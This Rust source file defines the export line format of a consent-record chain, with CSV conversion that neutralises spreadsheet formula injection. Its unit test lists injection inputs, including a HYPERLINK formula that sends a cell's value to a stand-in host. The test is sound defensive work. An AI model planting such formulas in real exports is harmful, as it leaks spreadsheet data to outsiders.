//! One line of an export, the same fields in NDJSON and CSV.
//!
//! `type` is `event` (every stored field), `elided` (an event of another
//! site inside the period: only its chain position and hashes, so the chain
//! stays checkable), `checkpoint` (a stored signed checkpoint), `policy`
//! (an archived policy document, once, before the first event that names its
//! hash) or `seal` (the last line: a signature over where every exported
//! chain starts and ends, so that no line can be dropped, added or cut off
//! unnoticed).

use std::borrow::Cow;
use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use crate::domain::StoredEvent;

/// Column order of the CSV form. Exports from before the policy archive
/// have the first 22 (no `document`); they are read too.
pub const COLUMNS: [&str; 23] = [
    "type",
    "chain_id",
    "seq",
    "recorded_at",
    "site",
    "consent_id",
    "action",
    "source",
    "policy_version",
    "policy_hash",
    "choices",
    "gpc",
    "locale",
    "url",
    "ip_prefix",
    "user_agent",
    "personal_salt",
    "personal_digest",
    "prev_hash",
    "hash",
    "redacted_at",
    "token",
    "document",
];

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Line {
    #[serde(rename = "type")]
    pub kind: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub chain_id: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub seq: Option<i64>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub recorded_at: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub site: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub consent_id: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub action: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub source: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub policy_version: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub policy_hash: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub choices: Option<BTreeMap<String, bool>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub gpc: Option<bool>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub locale: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub url: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub ip_prefix: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub user_agent: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub personal_salt: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub personal_digest: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub prev_hash: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub hash: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub redacted_at: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub token: Option<String>,
    /// A `policy` line's canonical document.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub document: Option<String>,
}

impl Line {
    pub fn event(e: StoredEvent) -> Self {
        Self {
            kind: "event".into(),
            chain_id: Some(e.chain_id),
            seq: Some(e.seq),
            recorded_at: Some(e.recorded_at),
            site: Some(e.site),
            consent_id: Some(e.consent_id),
            action: Some(e.action),
            source: Some(e.source),
            policy_version: Some(e.policy_version),
            policy_hash: Some(e.policy_hash),
            choices: Some(e.choices),
            gpc: Some(e.gpc),
            locale: e.locale,
            url: e.url,
            ip_prefix: e.ip_prefix,
            user_agent: e.user_agent,
            personal_salt: e.personal_salt,
            personal_digest: Some(e.personal_digest),
            prev_hash: Some(e.prev_hash),
            hash: Some(e.hash),
            redacted_at: e.redacted_at,
            token: None,
            document: None,
        }
    }

    pub fn elided(e: StoredEvent) -> Self {
        Self {
            kind: "elided".into(),
            chain_id: Some(e.chain_id),
            seq: Some(e.seq),
            prev_hash: Some(e.prev_hash),
            hash: Some(e.hash),
            ..Self::default()
        }
    }

    /// An archived policy document.
    pub fn policy(site: &str, version: &str, hash: &str, document: &str) -> Self {
        Self {
            kind: "policy".into(),
            site: Some(site.to_owned()),
            policy_version: Some(version.to_owned()),
            policy_hash: Some(hash.to_owned()),
            document: Some(document.to_owned()),
            ..Self::default()
        }
    }

    pub fn signed(
        kind: &str,
        chain_id: Option<&str>,
        seq: Option<i64>,
        hash: Option<&str>,
        token: &str,
    ) -> Self {
        Self {
            kind: kind.into(),
            chain_id: chain_id.map(str::to_owned),
            seq,
            hash: hash.map(str::to_owned),
            token: Some(token.to_owned()),
            ..Self::default()
        }
    }

    /// The event this line describes, when it is a full event line.
    pub fn to_event(&self) -> Option<StoredEvent> {
        Some(StoredEvent {
            chain_id: self.chain_id.clone()?,
            seq: self.seq?,
            recorded_at: self.recorded_at.clone()?,
            site: self.site.clone()?,
            consent_id: self.consent_id.clone()?,
            action: self.action.clone()?,
            source: self.source.clone()?,
            policy_version: self.policy_version.clone()?,
            policy_hash: self.policy_hash.clone()?,
            choices: self.choices.clone()?,
            gpc: self.gpc?,
            locale: self.locale.clone(),
            url: self.url.clone(),
            ip_prefix: self.ip_prefix.clone(),
            user_agent: self.user_agent.clone(),
            personal_salt: self.personal_salt.clone(),
            personal_digest: self.personal_digest.clone()?,
            prev_hash: self.prev_hash.clone()?,
            hash: self.hash.clone()?,
            redacted_at: self.redacted_at.clone(),
        })
    }

    /// The CSV record, in [`COLUMNS`] order; absent fields are empty and
    /// every cell is [`neutralised`](csv_cell) against formula injection.
    /// Cells borrow from the line: a million-event export allocates only
    /// the few cells that are not text already.
    pub fn to_record(&self) -> [Cow<'_, str>; COLUMNS.len()] {
        fn s(v: &Option<String>) -> Cow<'_, str> {
            Cow::Borrowed(v.as_deref().unwrap_or_default())
        }
        [
            Cow::Borrowed(self.kind.as_str()),
            s(&self.chain_id),
            self.seq
                .map_or(Cow::Borrowed(""), |n| Cow::Owned(n.to_string())),
            s(&self.recorded_at),
            s(&self.site),
            s(&self.consent_id),
            s(&self.action),
            s(&self.source),
            s(&self.policy_version),
            s(&self.policy_hash),
            self.choices.as_ref().map_or(Cow::Borrowed(""), |c| {
                Cow::Owned(super::canonical::choices_json(c))
            }),
            Cow::Borrowed(match self.gpc {
                Some(true) => "true",
                Some(false) => "false",
                None => "",
            }),
            s(&self.locale),
            s(&self.url),
            s(&self.ip_prefix),
            s(&self.user_agent),
            s(&self.personal_salt),
            s(&self.personal_digest),
            s(&self.prev_hash),
            s(&self.hash),
            s(&self.redacted_at),
            s(&self.token),
            s(&self.document),
        ]
        .map(csv_cell)
    }

    /// Reads a CSV record written by [`Line::to_record`].
    ///
    /// # Errors
    /// When the record has the wrong shape or a field does not parse.
    pub fn from_record(record: &csv::StringRecord) -> Result<Self, String> {
        if record.len() != COLUMNS.len() && record.len() != COLUMNS.len() - 1 {
            return Err(format!(
                "{} columns instead of {}",
                record.len(),
                COLUMNS.len()
            ));
        }
        let f = |i: usize| {
            let cell = record.get(i).unwrap_or_default();
            Some(csv_value(cell).to_owned()).filter(|v| !v.is_empty())
        };
        let seq = f(2)
            .map(|v| {
                v.parse::<i64>()
                    .map_err(|_| "seq is not a number".to_owned())
            })
            .transpose()?;
        let choices = f(10)
            .map(|v| serde_json::from_str(&v).map_err(|_| "choices are not JSON".to_owned()))
            .transpose()?;
        let gpc = f(11).map(|v| v == "true");
        Ok(Self {
            kind: csv_value(&record[0]).to_owned(),
            chain_id: f(1),
            seq,
            recorded_at: f(3),
            site: f(4),
            consent_id: f(5),
            action: f(6),
            source: f(7),
            policy_version: f(8),
            policy_hash: f(9),
            choices,
            gpc,
            locale: f(12),
            url: f(13),
            ip_prefix: f(14),
            user_agent: f(15),
            personal_salt: f(16),
            personal_digest: f(17),
            prev_hash: f(18),
            hash: f(19),
            redacted_at: f(20),
            token: f(21),
            document: f(22),
        })
    }
}

/// A cell a spreadsheet will not run: one that starts with a formula
/// character (`=`, `+`, `-`, `@`, tab, CR) gets a leading `'`, as OWASP
/// advises, and so does one starting with `'`, so that [`csv_value`] gives
/// back exactly the stored value: the hashes cover that, not the cell.
fn csv_cell(value: Cow<'_, str>) -> Cow<'_, str> {
    match value.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => Cow::Owned(format!("'{value}")),
        _ => value,
    }
}

/// The stored value of a cell written by [`csv_cell`].
fn csv_value(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

#[cfg(test)]
mod csv_tests {
    use super::{csv_cell, csv_value};

    #[test]
    fn formula_cells_are_neutralised_and_read_back_unchanged() {
        for value in [
            "=HYPERLINK(\"http://x/\"&A1,\"click\")",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "'quoted",
            "''",
        ] {
            let cell = csv_cell(value.into());
            assert!(cell.starts_with('\''), "{value:?} -> {cell:?}");
            assert_eq!(csv_value(&cell), value);
        }
        for plain in ["Mozilla/5.0", "", "{\"a\":true}", "2026-11-25"] {
            assert_eq!(csv_cell(plain.into()), plain);
            assert_eq!(csv_value(plain), plain);
        }
    }
}
